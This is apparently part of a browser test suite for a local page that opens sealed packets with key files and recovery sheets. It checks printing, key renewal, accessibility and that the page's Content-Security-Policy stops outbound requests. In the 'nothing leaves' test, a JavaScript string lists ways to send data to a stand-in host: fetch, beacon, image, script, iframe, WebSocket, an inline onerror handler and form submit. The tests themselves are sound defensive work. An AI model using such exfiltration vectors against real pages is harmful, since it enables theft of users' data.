    page.call("Emulation.setEmulatedMedia", media="print")
    t.ok(page.ask("document.querySelector('#paper .groups').innerText.replace(/\\s+/g, ' ').trim()")
         == sheet.strip() and not page.shown("#made"), "on paper stands the sheet, and nothing else")
    look(page, "sheet-paper")
    page.close()
    with Site(people={"lead okafor": {"key": line}}) as site:
        handle, packet, _ = unsealed(site)
        secret = os.path.join(site.folder, "passphrase")
        with open(secret, "w") as file:
            file.write(passphrase + "\n")
        done = worrybox("open", packet, "--key", key, "--passphrase-file", secret, "--json")
        t.same([done.code, done.lines[0]["from"]], [0, "bokonkwo@hillside.example"],
               "worrybox open works with a key file of the page")
        typed = os.path.join(site.folder, "typed")
        with open(typed, "w") as file:
            file.write(sheet)
        t.same(worrybox("open", packet, "--key", typed, "--json").out, done.out,
               "and with its recovery sheet")
        page = start()
        fill(page, packet, key, passphrase)
        t.has(page.text, "Ben Okonkwo", "the page opens what the C program sealed to its key")
        page.close()
        page = start(PHONE)
        fill(page, packet, sheet=sheet)
        t.has(page.text, "Ben Okonkwo", "and with the recovery sheet, typed on a phone")
        page.close()
        check_key(t, site, packet, key, passphrase, sheet)


def check_key(t, site, packet, key, passphrase, sheet):
    page = start()
    page.click("Check a key", "nav")
    look(page, "check-desktop")
    page.choose("#check-key-file", key)
    page.type("#check-key-passphrase", "something else")
    page.click("Check", "#check-form")
    page.wait(DONE)
    t.has(errors_of(page), "The passphrase is wrong", "checking a key: a wrong passphrase")
    page.click("I have no key file", "#check-form")
    page.type("#check-key-sheet", sheet)
    page.click("Check", "#check-form")
    page.wait(DONE)
    typed = os.path.join(site.folder, "typed-sheet")
    with open(typed, "w") as file:
        file.write(sheet + "\n")
    print_ = worrybox("key", "show", typed).out.split("\n")[0]
    t.has(page.text, ["This key works", print_], "a key is checked by its sheet, and compared")
    t.same(page.ask("document.querySelector('#paper .groups').textContent"), sheet,
           "its sheet can be printed again")
    look(page, "checked-desktop")
    page.type("#renew-name", "okafor")
    page.type("#renew-one", "another long passphrase")
    page.type("#renew-two", "another long passphrase")
    renewed = page.saved(lambda: page.click("Make a new key file"))
    fresh = os.path.join(site.folder, "fresh")
    with open(fresh, "w") as file:
        file.write("another long passphrase\n")
    done = worrybox("open", packet, "--key", renewed, "--passphrase-file", fresh, "--json")
    t.same(done.code, 0, "a key file made anew from the sheet opens with the new passphrase")
    t.ok(worrybox("open", packet, "--key", renewed, "--passphrase-file",
                  os.path.join(site.folder, "passphrase")).code == 77, "and not with the old one")
    quiet(t, page, "checking a key")
    page.close()


# ---- everybody can use it ------------------------------------------------------------------------

def press_to(page, wanted, limit=30):
    """Tab until one stands on this id or these words."""
    for _ in range(limit):
        if page.focused() == wanted:
            return True
        page.key("Tab")
    return False


def choose_by_keyboard(page, wanted, path):
    if not press_to(page, wanted):
        return False
    page.call("Page.setInterceptFileChooserDialog", enabled=True)
    page.key("Enter", text="\r")
    node = browser.wait_event("Page.fileChooserOpened")["backendNodeId"]
    page.call("DOM.setFileInputFiles", files=[path], backendNodeId=node)
    page.call("Page.setInterceptFileChooserDialog", enabled=False)
    return True


def test_keyboard_only(t):
    page = start()
    t.ok(choose_by_keyboard(page, "packet", vector("packet")), "keyboard: the packet")
    t.ok(choose_by_keyboard(page, "key-file", vector("lead.key")), "keyboard: the key file")
    t.ok(press_to(page, "key-passphrase"), "keyboard: the passphrase")
    page.call("Input.insertText", text=VECTOR_PASSPHRASE)
    page.key("Enter", text="\r")
    page.wait("!document.getElementById('opened').hidden")
    t.same(page.focused(), "Who wrote", "keyboard: one stands at the top of what was opened")
    t.ok(press_to(page, "Print for the child’s file"), "keyboard: print")
    page.key("Enter", text="\r")
    t.same(page.ask("window.printed"), 1, "keyboard: it prints")
    t.ok(press_to(page, "Close and forget"), "keyboard: close")
    page.close()


def test_narrow(t):
    page = start(NARROW)
    fits = "document.documentElement.scrollWidth <= innerWidth"
    for task in ("Find out who wrote", "Make a key", "Check a key"):
        page.click(task, "nav")
        t.ok(page.ask(fits), f"320 wide: {task}")
    make_key(page, "a-very-long-short-name-of-somebody"[:32], "a passphrase of some words")
    page.click("No printer?")
    t.ok(page.ask(fits), "320 wide: a key that is made, and its sheet")
    look(page, "made-narrow")
    page.close()


def test_screen_reader(t):
    page = start()
    roles = {"button", "textbox", "checkbox", "link", "DisclosureTriangle", "heading", "group"}
    for task in ("Find out who wrote", "Make a key", "Check a key"):
        page.click(task, "nav")
        tree = page.tree()
        t.ok(all(name.strip() for role, name in tree if role in roles), f"{task}: everything has a name",
             [one for one in tree if one[0] in roles])
        t.same([name for role, name in tree if role == "heading"], [task], f"{task}: one heading")
    page.click("Find out who wrote", "nav")
    page.click("I have no key file")
    t.ok(("textbox", "Recovery sheet") in page.tree(), "the recovery sheet has its label")
    low = page.ask("""(() => {
        const light = colour => { const [r, g, b] = colour.match(/[\\d.]+/g).map(Number).map(one =>
            (one /= 255) <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4);
            return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
        const back = one => { const colour = getComputedStyle(one).backgroundColor;
            return colour === "rgba(0, 0, 0, 0)" ? back(one.parentElement) : colour; };
        const low = [];
        for (const one of document.querySelectorAll("body *")) {
            if (!one.checkVisibility() || ![...one.childNodes].some(n => n.nodeType === 3 &&
                                                                    n.data.trim()))
                continue;
            const [a, b] = [light(getComputedStyle(one).color), light(back(one))].sort((x, y) => y - x);
            if ((a + 0.05) / (b + 0.05) < 4.5)
                low.push(one.textContent.trim().slice(0, 40));
        }
        return low; })()""")
    t.same(low, [], "all text has a contrast of 4.5 or more")
    page.close()


# ---- nothing leaves ------------------------------------------------------------------------------

TRY = """(async () => {
    const tries = {
        fetch: () => fetch(CANARY + "fetch"),
        beacon: () => navigator.sendBeacon(CANARY + "beacon", "x"),
        image: () => { new Image().src = CANARY + "image"; },
        script: () => { const one = document.createElement("script"); one.src = CANARY + "script";
                        document.head.append(one); },
        style: () => { const one = document.createElement("link"); one.rel = "stylesheet";
                       one.href = CANARY + "style"; document.head.append(one); },
        frame: () => { const one = document.createElement("iframe"); one.src = CANARY + "frame";
                       document.body.append(one); },
        socket: () => new WebSocket(CANARY.replace("http", "ws") + "socket"),
        inline: () => { const one = document.createElement("img");
                        one.setAttribute("onerror", `fetch('${CANARY}inline')`); one.src = "data:,";
                        document.body.append(one); },
        html: () => { document.body.insertAdjacentHTML("beforeend", `<img src="${CANARY}html">`); },
    };
    for (const act of Object.values(tries))
        try { await act(); } catch (error) { continue; }
    await new Promise(done => setTimeout(done, 300));
    const form = document.createElement("form");
    form.action = CANARY + "form";
    document.body.append(form);
    form.submit();
})()"""


def test_nothing_leaves(t):
    with tempfile.TemporaryDirectory() as folder:
        control = os.path.join(folder, "control.html")
        text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", content(PAGE))
        with open(control, "w") as file:
            file.write(text)
        canary = json.dumps("http://canary.example/")
        for name, path in (("with its policy", PAGE), ("control, without it", control)):
            page = start(path=path)
            before = len(browser.counter.asked)
            page.ask(TRY.replace("CANARY", canary))
            time.sleep(0.3)
            asked = {line.split("canary.example/")[1].split()[0]
                     for line in browser.counter.asked[before:] if "canary.example/" in line}
            if path == PAGE:
                t.same([asked, page.requests()], [set(), []],
                       f"{name}: whatever is tried, no request leaves it")
            else:
                seen = {url.split("/")[-1] for url in page.requests()}
                t.ok({"fetch", "image", "script", "style"} <= seen & asked,
                     f"{name}: the same requests are seen", seen, asked)
            page.close()


def main():
    global browser
    t = Tap()
    if CHROMIUM is None:
        print("1..0 # SKIP chromium is not installed")
        return
    chosen = sys.argv[1:]
    with Browser() as browser:
        for name, function in list(globals().items()):
            if name.startswith("test_") and (not chosen or name in chosen):
                t.scenario(function)
    t.done()


main()
